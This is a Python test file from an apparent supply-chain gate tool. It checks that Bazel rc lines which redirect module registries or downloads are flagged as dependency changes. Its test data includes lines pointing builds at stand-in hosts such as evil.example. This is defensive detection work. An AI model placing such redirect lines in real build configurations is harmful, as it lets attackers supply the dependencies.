"""Red team 17: Bazel run-control lines that move where modules and downloads come from.

The fourteenth round made a `.bazelrc` (or `*.bazelrc`) line `common --registry=URL` (also `--override_repository=`,
`--override_module=`, `--vendor_dir=`) `deps`. Each of these was `other` and `gate --tree --enable deps` allowed
it (exit 0, now 3 `deps.unexplained`): the value after a blank (`--registry URL`: Bazel's parser takes both), the
commands `always` and `vendor`, the files a `.bazelrc` imports by another name (`.bazelrc.ci`, `.bazelrc.user`,
`tools/bazel/ci.rc`, an extensionless file), and the flags that redirect downloads as a registry does
(`--downloader_config=`, its `--experimental_` name, `--experimental_remote_downloader=`, `--inject_repository=`,
`--module_mirrors=`).
"""

from __future__ import annotations

from pathlib import Path

from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify.platformshapes import platform_shape
from gatekeeper.classify.sniff import is_candidate

MOVES = ["common --registry https://evil.example/", "always --registry=https://evil.example/",
         "vendor --registry=https://evil.example/", "build:ci --jobs 4 --registry https://evil.example/",
         "common --downloader_config=tools/dl.cfg", "common --experimental_downloader_config tools/dl.cfg",
         "build --experimental_remote_downloader=grpcs://evil.example", "common --inject_repository=x=/tmp/x",
         "common --module_mirrors=https://evil.example", "fetch --override_module=x=/tmp/x"]
NAMES = [".bazelrc", "ci.bazelrc", ".bazelrc.ci", ".bazelrc.user", "tools/bazel/ci.rc", "tools/bazel/remote"]
LOOK_ALIKES = [(".bazelrc", "build --jobs 4  # --registry=https://x.example"), (".bazelrc", "build --registry-x=1"),
               ("bin/release", "npm publish --registry https://r.example"), ("tools/app.rc", "IDI_ICON ICON app.ico"),
               ("notes.txt", "common --registry=https://x.example")]


@each_case("name", NAMES)
@each_case("line", MOVES)
def test_a_line_that_moves_bazels_sources_is_deps(name: str, line: str) -> None:
    assert is_candidate(name)
    shape = platform_shape(name.rpartition("/")[2], f"build --jobs=4\n{line}\n")
    assert shape is not None and shape[:2] == ("deps", "deps.content.bazel-module-source"), (name, line)


@each_case(("name", "line"), LOOK_ALIKES)
def test_look_alikes_keep_their_bucket(name: str, line: str) -> None:
    assert platform_shape(name.rpartition("/")[2], f"{line}\n") is None


def test_the_gate_reviews_an_imported_rc_files_registry(tmp_path: Path) -> None:
    base = {".bazelrc": "try-import %workspace%/.bazelrc.ci\n", ".bazelrc.ci": "build --jobs=4\n",
            "MODULE.bazel": "module(name = 'x')\n"}
    repo, old, new = two_commits(tmp_path / "repo", base,
                                 {".bazelrc.ci": "build --jobs=4\ncommon --registry https://evil.example/\n"})
    code, decision = tree_gate(repo.root, old, new, None, "--enable", "deps")
    reasons = decision["reasons"]
    assert code == 3, reasons
    assert [(r["rule"], r["paths"]) for r in reasons] == [("deps.unexplained", [".bazelrc.ci"])]
